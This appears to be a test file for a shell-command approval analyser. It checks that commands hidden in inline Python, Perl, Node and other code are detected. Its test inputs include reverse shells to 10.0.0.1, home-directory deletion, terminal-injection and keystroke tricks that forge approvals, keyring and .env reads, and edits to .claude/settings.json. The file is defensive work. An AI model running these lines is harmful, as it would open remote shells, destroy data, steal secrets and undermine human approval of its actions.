@@ -1,0 +1,118 @@
+"""Interpreters with inline code: what the code runs, deletes, writes and reads."""
+
+from __future__ import annotations
+
+import pytest
+
+from approvald.shell import DYNAMIC_NAME
+from tests.shell.helpers import has_git_push, programs, run, show
+
+RUNS_GIT_PUSH = [
+    "python3 -c 'import os; os.system(\"git push\")'",
+    "python -c \"import subprocess; subprocess.run(['git', 'push'])\"",
+    "python3 -c \"__import__('subprocess').check_call('git push', shell=True)\"",
+    "python3 -c \"from subprocess import run; run(['git','push'])\"",
+    "python3 -c 'import pty; pty.spawn([\"git\", \"push\"])'",
+    "python3 -c \"exec('import os; os.system(\\\"git push\\\")')\"",
+    "python3 -Bc 'import os; os.system(\"git push\")'",
+    "python3 - <<'EOF'\nimport os\nos.system('git push')\nEOF",
+    "echo 'import os; os.system(\"git push\")' | python3",
+    "perl -e 'system(\"git push\")'", "perl -e 'system \"git\", \"push\"'",
+    "perl -e '`git push`'", "perl -e 'exec qw(git push)'",
+    "perl -ne 'print; system(\"git push\")' f",
+    "ruby -e 'system(\"git push\")'", "ruby -e '`git push`'", "ruby -e '%x(git push)'",
+    "node -e \"require('child_process').execSync('git push')\"",
+    "node -e \"require('child_process').spawnSync('git', ['push'])\"",
+    "node --eval \"require('child_process').exec('git push')\"",
+    "bun -e \"Bun.spawnSync(['git', 'push'])\"",
+    "deno eval \"new Deno.Command('git', {args: ['push']}).outputSync()\"",
+    "php -r 'system(\"git push\");'", "php -r 'echo `git push`;'",
+    "lua -e 'os.execute(\"git push\")'",
+    "awk 'BEGIN { system(\"git push\") }'", "awk 'BEGIN { print \"x\" | \"git push\" }'",
+    "gawk 'BEGIN { while ((\"git push\" | getline l) > 0) print l }'",
+    "sed -n '1e git push' f", "sed 's/.*/git push/e' f", "vim -c '!git push' -c q",
+    "vim +'silent !git push' +q", "nvim --headless -c 'call system(\"git push\")' -c q",
+    "osascript -e 'do shell script \"git push\"'",
+    "expect -c 'spawn git push; expect eof'", "Rscript -e 'system(\"git push\")'",
+    "pwsh -Command 'git push'",
+]
+
+
+@pytest.mark.parametrize("line", RUNS_GIT_PUSH)
+def test_code_that_runs_a_literal_command_is_analysed(line: str) -> None:
+    assert has_git_push(run(line)), show(run(line))
+
+
+@pytest.mark.parametrize("line", [
+    "python3 -c 'import os,sys; os.system(sys.argv[1])' x",
+    "python3 -c \"exec(__import__('base64').b64decode('eA=='))\"",
+    "node -e 'eval(process.argv[1])'", "perl -e 'system($ARGV[0])'",
+    "ruby -e 'system(ARGV[0])'", "awk '{ system($0) }' f", "sed e f",
+    "osascript -e 'do shell script \"rm \" & f'",
+])
+def test_code_that_runs_something_only_known_at_run_time_is_dynamic(line: str) -> None:
+    analysis = run(line)
+    assert any(c.dynamic == DYNAMIC_NAME for c in analysis.commands), show(analysis)
+
+
+@pytest.mark.parametrize("line", [
+    "python3 -c \"import shutil,os; shutil.rmtree(os.path.expanduser('~'))\"",
+    "python3 -c 'import shutil, pathlib; shutil.rmtree(pathlib.Path.home())'",
+    "node -e \"require('fs').rmSync(require('os').homedir(), {recursive: true})\"",
+    "perl -MFile::Path -e 'rmtree($ENV{HOME})'",
+    "ruby -rfileutils -e 'FileUtils.rm_rf(Dir.home)'",
+])
+def test_recursive_deletion_of_home_from_code_is_rm_rf_home(line: str) -> None:
+    analysis = run(line)
+    assert any(c.program == "rm" and "-rf" in c.args and "/home/u" in c.args
+               for c in analysis.commands), show(analysis)
+
+
+def test_files_written_and_read_by_code_are_redirects() -> None:
+    analysis = run("python3 -c \"open('.claude/settings.json','w').write('{}')\"")
+    assert "/repo/.claude/settings.json" in analysis.writes
+    analysis = run("python3 -c \"print(open('.env').read())\"")
+    assert "/repo/.env" in analysis.reads
+    analysis = run("jq . .claude/settings.json")
+    assert not analysis.writes
+
+
+@pytest.mark.parametrize(("line", "finding"), [
+    ("python3 -c 'import fcntl,termios; fcntl.ioctl(0, termios.TIOCSTI, b\"y\")'",
+     "tty-injection"),
+    ("perl -e 'ioctl(STDIN, 0x5412, $_) for split //, \"y\\n\"'", "tty-injection"),
+    ("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));"
+     "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'", "reverse-shell"),
+    ("ruby -rsocket -e 'f=TCPSocket.open(\"10.0.0.1\",1234).to_i;exec sprintf(\"/bin/sh -i "
+     "<&%d >&%d 2>&%d\",f,f,f)'", "reverse-shell"),
+    ("python3 -c 'import keyring; print(keyring.get_password(\"svc\", \"u\"))'", "keyring"),
+    ("python3 -c 'from approvald.cli import main; main([\"approvals\"])'", "approvald-import"),
+    ("osascript -e 'tell application \"System Events\" to keystroke \"y\"'", "keystrokes"),
+])
+def test_findings(line: str, finding: str) -> None:
+    analysis = run(line)
+    assert any(finding in c.findings for c in analysis.commands), show(analysis)
+
+
+def test_keyring_read_from_code_is_keyring_get() -> None:
+    analysis = run("python3 -c 'import keyring; keyring.get_password(\"a\", \"b\")'")
+    assert any(c.program == "keyring" and c.args[:1] == ("get",) for c in analysis.commands)
+
+
+def test_python_m_runs_the_module() -> None:
+    analysis = run("python3 -m twine upload dist/*")
+    assert [c.program for c in analysis.commands] == ["python3", "twine"]
+    assert run("python -m approvald.cli approvals approve x").commands[-1].program == "approvald"
+
+
+@pytest.mark.parametrize("line", [
+    "python3 -c 'print(\"git push\")'", "python -c 'import sys; print(sys.version)'",
+    "python3 -c 'import platform; print(platform.system())'",
+    "node -e 'console.log(\"rm -rf ~\")'", "perl -pe 's/git push/x/' f",
+    "awk '{print $1}' f", "sed -i 's/a/b/' f", "ruby -e 'puts \"system(1)\"'",
+    "python3 -c 'import re; print(re.compile(\"x\").sub(\"y\", \"x\"))'",
+    "node -e 'console.log(/a/.exec(\"a\"))'",
+])
+def test_harmless_code_adds_nothing(line: str) -> None:
+    analysis = run(line)
+    assert len(programs(analysis)) == 1 and not analysis.dynamic, show(analysis)
